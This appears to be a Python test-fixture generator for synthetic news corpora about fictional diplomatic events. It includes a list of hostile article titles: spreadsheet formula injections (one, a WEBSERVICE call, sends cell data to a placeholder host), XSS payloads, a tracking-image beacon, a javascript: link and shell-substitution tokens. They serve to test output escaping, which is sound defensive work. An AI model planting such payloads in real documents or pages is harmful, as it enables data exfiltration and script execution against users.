"""Corpora of generated news: as many countries as asked, months in which something changed, and hostile titles."""

import csv
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path

# The powers of the report's --focus come first, so that every corpus has a panel of theirs.
FIRST = ["RUS", "USA", "CHN", "IND", "BRA", "FRA", "DEU", "JPN", "EGY", "KEN"]
WITH_ARTICLE = {"United States", "United Kingdom", "Netherlands", "Philippines", "United Arab Emirates", "Czech Republic"}
OUTLETS = ["Harbour Times", "Northern Post", "The Ledger", "Evening Wire", None]
THINGS = [
    "fish quotas",
    "the river dam",
    "a customs union",
    "rail freight",
    "copper ore",
    "border posts",
    "wheat exports",
    "the shared lighthouse",
    "oil licences",
    "visa fees",
    "undersea cables",
    "steel pipes",
    "a gas terminal",
]
PLACES = ["ministry", "port", "palace", "assembly", "academy", "customs house", "old town hall", "naval club"]
PEOPLE = ["clerks", "envoys", "farmers", "pilots", "judges", "bakers", "sailors", "teachers", "miners", "printers"]
ACTS = [
    "{a} imposed sanctions on {b} over {thing} and left the {place} without a further word.",
    "{a} signed an agreement with {b} on {thing} after a long night of talks in the {place}.",
    "{a} accused {b} of breaking its promise on {thing}, and {people} outside the {place} took note.",
    "{a} praised {b} for its work on {thing} in a speech at the {place} before two hundred {people}.",
    "{a} sent food aid to {b} when the quarrel over {thing} had left {people} without an income.",
    "{a} expelled an envoy of {b} after the row over {thing}, as {people} near the {place} had feared.",
    "{a} threatened {b} with new tariffs over {thing} while {people} waited at the {place}.",
    "{a} condemned the decision of {b} on {thing} and called the vote at the {place} a mistake.",
]
TO_COME = [
    "{a} will hold talks with {b} on {day} {month} 2021 about {thing}, the {place} said.",
    "{a} plans to sign a treaty with {b} on {day} {month} 2021 in the {place}, {people} were told.",
]
NAMED = [
    "In {a} the {people} spoke of little else than {thing} during week {number}.",
    "Prices of {thing} rose again in {a}, where {number} {people} had asked for help.",
    "Visitors from {a} counted {number} {people} at the {place} on the day of the feast.",
]
PADDING = [
    "The {place} stayed open until {number} {people} had gone home with their papers.",
    "Nobody among the {people} could say who had paid for the {number} chairs.",
    "It rained on the {place} for {number} minutes, and the {people} moved inside.",
]
# Titles of an ill-meaning or broken page: formulas, markup, what ends a cell, a row or a line, what looks like a number.
HOSTILE = [
    "=2+3",
    '=HYPERLINK("http://x.invalid";"more")',
    '=WEBSERVICE("http://x.invalid/"&A1)',
    "+49 30 000 000",
    "-7+1",
    "- Ministers meet",
    "@SUM(B1:B9)",
    "\t=2+3",
    "\r=2+3",
    "＝2+3",
    "'=2+3",
    "''quoted''",
    'He said "yes", then "no"',
    "one;two|three,four",
    "first\nsecond\r\nthird",
    "bell\u0007 and escape\u001b[31m",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![beacon](http://x.invalid/b.png)",
    "[here](javascript:alert(1))",
    "| a | b |\n|--|--|",
    "# Heading\n\n1. item",
    "**bold** _slanted_ `code` ~~gone~~ $x^2$",
    "&amp; &lt;b&gt; &#60;",
    "http://x.invalid/ www.x.invalid",
    "left\u202eright\u2066in\u2069",
    "next\u0085line\u2028separator\u2029end",
    "a backslash\\ and \\| a pipe",
    "==== wiki ====",
    "</title></style></svg><svg onload=alert(2)>",
    "-->]]><!--",
    "Ünïcödé 漢字 🇺🇳",
    "a" * 300,
    "many " * 60,
    "{{country}} {{{raw}}} {{#section}}",
    "%s %n %1$s ${HOME} `id`",
]
# Titles that every spreadsheet takes for a number, a day or a truth in CSV, which has no other means than text; a typed
# workbook keeps them.
LIKE_VALUES = ["00123", "1e5", "2021-04", "1,234", "0.125", "1/2", "TRUE"]
MONTHS = {
    "2021-01": "January",
    "2021-02": "February",
    "2021-03": "March",
    "2021-04": "April",
    "2021-05": "May",
    "2021-06": "June",
}


@dataclass(frozen=True)
class Corpus:
    """Months of news about some countries, of which one comes up, one goes, and two are told of together in April."""

    countries: int
    stories_of_month: int
    seed: int

    def articles(self, names: dict[str, str], months: list[str]) -> Iterator[dict]:
        """Those of some months; a month's do not depend on which others are asked for."""
        chosen = dict(list(names.items())[: self.countries])
        for month in months:
            dice = random.Random(f"{self.seed} {month}")
            for number in range(self.stories_of_month):
                article = _article(dice, list(chosen.values()), month, number)
                yield article
                if dice.random() < 0.08:
                    yield article | {"source": "Copy Courier", "url": f"https://copies.example/{month}/{number}"}


def country_names(gazetteer: Path) -> dict[str, str]:
    """The name of each country by its code that is found whatever stands around it."""
    with open(gazetteer, newline="", encoding="utf-8") as file:
        rows = csv.DictReader((line for line in file if not line.startswith("#")), delimiter="\t")
        plain = {}
        for row in rows:
            if row["kind"] == "name" and "only_" not in row["context"] and row["iso3"] not in ("SUN", "EUE", "-"):
                plain.setdefault(row["iso3"], row["form"])
    order = sorted(plain, key=lambda code: (FIRST.index(code) if code in FIRST else len(FIRST), code))
    return {code: plain[code] for code in order}


def hostile(articles: Iterator[dict]) -> Iterator[dict]:
    """The same under hostile titles and from hostile outlets, each of them several times."""
    titles = HOSTILE + LIKE_VALUES
    for number, article in enumerate(articles):
        # An outlet keeps its line ends, of which spreadsheets make LF.
        outlet = titles[(number * 7) % len(titles)].replace("\r", "") if number % 2 else article["source"]
        yield article | {"title": titles[number % len(titles)], "source": outlet}


def write(articles: Iterator[dict], path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(article, ensure_ascii=False) + "\n" for article in articles), encoding="utf-8")
    return path


def _article(dice: random.Random, names: list[str], month: str, number: int) -> dict:
    named = _named(dice, names, month == "2021-04")
    sentences = [_sentence(dice, dice.choice(NAMED), [name]) for name in named for _ in range(dice.randint(1, 2))]
    if len(named) > 1:
        sentences += [_act(dice, named, month) for _ in range(dice.choice([0, 1, 1, 2, 3]))]
    # One country deals three times as often as before.
    if month == "2021-04" and names[4] in named and dice.random() < 0.9:
        sentences += [
            _sentence(dice, act, [names[4], other])
            for act in dice.sample(ACTS, 2)
            for other in [dice.choice([name for name in names[:4] if name != names[4]])]
        ]
    sentences += [_sentence(dice, dice.choice(PADDING), named) for _ in range(dice.randint(3, 14))]
    dice.shuffle(sentences)
    outlet = dice.choice(OUTLETS)
    return {
        "title": f"Note {number}: {dice.choice(THINGS)} and {dice.choice(PEOPLE)} of {named[0]}",
        "text": "\n\n".join(" ".join(sentences[at : at + 3]) for at in range(0, len(sentences), 3)),
        "date": date(2021, int(month[5:]), dice.randint(1, 28)).isoformat(),
        "source": outlet,
        "url": f"https://news.example/{month}/{number}" if outlet else None,
    }


def _named(dice: random.Random, names: list[str], is_later: bool) -> list[str]:
    """Countries of a story, in order: each by its rank; the third rises, the fourth falls, two of the others meet."""
    chance = [min(0.7, 2.0 / (place + 2)) for place in range(len(names))]
    chance[2], chance[3] = (0.7, 0.12) if is_later else (0.12, 0.6)
    chance[4] = 0.35
    found = [name for name, likely in zip(names, chance) if dice.random() < likely]
    if len(names) > 12 and dice.random() < 0.15:
        found += [name for name in names[11:13] if name not in found]
    return dice.sample(found, min(len(found), 7)) or [names[0]]


def _act(dice: random.Random, named: list[str], month: str) -> str:
    template = dice.choice(TO_COME) if dice.random() < 0.12 else dice.choice(ACTS)
    later = list(MONTHS)[min(list(MONTHS).index(month) + 1, len(MONTHS) - 1)]
    return _sentence(dice, template, dice.sample(named, 2), MONTHS[later])


def _sentence(dice: random.Random, template: str, named: list[str], month: str = "") -> str:
    a, b, *_ = [f"the {name}" if name in WITH_ARTICLE else name for name in [*named, named[0]]]
    words = template.format(
        a=a,
        b=b,
        thing=dice.choice(THINGS),
        place=dice.choice(PLACES),
        people=dice.choice(PEOPLE),
        number=dice.randint(3, 99_000),
        day=dice.randint(1, 28),
        month=month,
    )
    return words[0].upper() + words[1:]
